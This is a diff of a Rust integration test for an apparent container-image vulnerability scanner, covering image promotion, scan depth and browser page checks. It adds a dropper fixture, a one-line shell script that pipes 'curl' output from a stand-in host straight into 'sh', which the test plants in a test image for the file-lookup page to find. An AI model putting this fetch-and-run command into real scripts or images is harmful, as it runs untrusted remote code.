@@ -4,16 +4,16 @@
 //! `target/pages/`; those of the manual are among them.
 
 use crate::cluster::free_port;
-use crate::server::{Process, get, line, process};
-use crate::services::{Running, registry, run};
-use assay_test::image::{Builder, Tree};
+use crate::promote::wait;
+use crate::server::{Process, first_token, get, line, process};
+use crate::services::{Running, notifications, push, registry, run};
+use assay_test::image::{Builder, Tree, digest};
 use real_tests::{tool, workspace};
 use serde_json::{Value, json};
 use std::fs;
 use std::io::{BufRead, BufReader, Write};
 use std::path::Path;
 use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
-use std::time::{Duration, Instant};
 
 /// A browser and one page of it.
 struct Chromium {
@@ -244,6 +244,20 @@ exceptions:
   - {id: RISK-17, advisories: [CVE-2019-19844], owner: anna, reason: passwords are not reset by mail, approvedBy: ben, expires: 2036-01-01}
 ";
 
+/// What may go from `shop` to `release`.
+const RELEASE: &str = "
+apiVersion: assay.dev/v1
+kind: ImagePolicy
+metadata: {name: release}
+tiers: [{name: release}]
+rules:
+  - vulnerabilities: {max: {critical: 0}}
+  - coverage: {ignore: [PyPI]}
+";
+
+/// A file that an incident is about; it has been in one image that was looked into.
+const DROPPER: &str = "#!/bin/sh\ncurl -s https://updates.example/run | sh\n";
+
 /// What the database knows: identifier, package, the version that fixes it, and how bad it is.
 const ADVISORIES: [(&str, &str, &str, &str); 12] = [
     ("CVE-2019-19844", "django", "2.2.9", "C:H/I:H/A:H"),
@@ -292,15 +306,14 @@ fn fleet(
     let listen = format!("127.0.0.1:{port}");
     let serve =
         ["serve", "--data", "data", "--listen", &listen, "--policy", &policy, "--anonymous-admission"];
-    let mut first = process(folder, &[&serve[..], &["--db", &database]].concat());
-    let token = line(&mut first, "the first administrator's token, shown only now: ");
-    first.kill();
-    let notifications = format!(
-        "notifications:\n  endpoints:\n    - name: assay\n      url: http://{listen}/webhooks/distribution\n      \
-         headers: {{Authorization: [Bearer {token}]}}\n      timeout: 5s\n      threshold: 3\n      backoff: 1s\n"
-    );
-    let (registry, host) = registry(docker_registry, folder, "", &notifications);
-    let mut server = process(folder, &[&serve[..], &["--db", &database, "--registry", &host]].concat());
+    let token = first_token(folder, &[&serve[..], &["--db", &database]].concat());
+    let telling = notifications(&listen, &token);
+    let (registry, host) = registry(docker_registry, folder, "", &telling);
+    let release = folder.join("release.yaml").display().to_string();
+    fs::write(&release, RELEASE).unwrap();
+    let pair = format!("{host}/shop/*={host}/release/*");
+    let more = ["--db", &database, "--registry", &host, "--deep-tags", "stable", "--promote", &pair];
+    let mut server = process(folder, &[&serve[..], &more, &["--promote-policy", &release]].concat());
     line(&mut server, "note: listening on ");
     let package = |tree: Tree, (name, version): (&str, &str)| {
         let path = format!("usr/lib/python3/dist-packages/{name}-{version}.dist-info/METADATA");
@@ -317,31 +330,26 @@ fn fleet(
         ("shop/web:stable", &[("django", "2.2.1"), ("pillow", "8.0.0")]),
     ];
     let mut digests = Vec::new();
-    for (number, (name, packages)) in images.into_iter().enumerate() {
-        let tree = packages.iter().copied().fold(Tree::new(), package);
+    for (name, packages) in images {
+        let mut tree = packages.iter().copied().fold(Tree::new(), package);
+        if name.ends_with(":stable") {
+            tree = tree.program("usr/local/bin/update-check", DROPPER);
+        }
         let image = Builder::new()
             .layer(Tree::new().file("etc/base", "base"), "ADD rootfs.tar.xz /")
             .layer(tree, "RUN pip install --requirement requirements.txt")
             .build();
-        let layout = folder.join(format!("layout{number}"));
-        fs::create_dir_all(&layout).unwrap();
-        image.write_layout(&layout, "app");
-        let from = format!("oci:{}:app", layout.display());
-        run(
-            skopeo,
-            &["copy", "--quiet", "--dest-tls-verify=false", &from, &format!("docker://{host}/{name}")],
-        );
+        push(skopeo, folder, &image, &format!("{host}/{name}"), &[]);
         digests.push(image.digest());
     }
-    let begun = Instant::now();
-    for digest in &digests {
-        while get(port, &format!("/api/v1/images/{digest}"), &token).unwrap_or_default()["scan"]["depth"]
-            != "fast"
-        {
-            assert!(begun.elapsed() < Duration::from_secs(120), "{digest} is not scanned");
-            std::thread::sleep(Duration::from_millis(100));
-        }
+    let shown = |path: &str| get(port, path, &token).unwrap_or_default();
+    for (digest, depth) in digests.iter().zip(["fast", "fast", "fast", "fast", "deep"]) {
+        wait(digest, || (shown(&format!("/api/v1/images/{digest}"))["scan"]["depth"] == depth).then_some(()));
     }
+    wait("a promotion", || {
+        let promotions = shown("/api/v1/promotions");
+        promotions["items"].as_array()?.iter().any(|one| one["finished"].is_string()).then_some(())
+    });
     let review = json!({ "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {
         "uid": "1", "kind": {"group": "", "version": "v1", "kind": "Pod"}, "operation": "CREATE", "namespace": "shop",
         "object": {"spec": {"containers": [{"image": format!("{host}/shop/web:1.3@{}", digests[0])}]}}}});
@@ -408,7 +416,9 @@ fn every_page_is_fit_to_be_read_in_a_browser() {
         ("search", "/search?text=flask".to_owned(), "flask"),
         ("advisory", "/advisories/CVE-2018-1000656".to_owned(), "billing/api"),
         ("package", "/packages?name=flask".to_owned(), "0.12"),
-        ("file", format!("/files/{}", "0".repeat(64)), "Files are known of 0 of 5 images"),
+        ("file", format!("/files/{}", digest(DROPPER.as_bytes())), "usr/local/bin/update-check"),
+        ("unknown-file", format!("/files/{}", "0".repeat(64)), "Files are known of 1 of 5 images"),
+        ("promotions", "/promotions".to_owned(), "release/web:1.4"),
         ("triage", "/triage".to_owned(), "team-billing"),
         ("decision", "/triage/1".to_owned(), "the code is not reachable"),
         ("events", "/events".to_owned(), "tag-seen"),
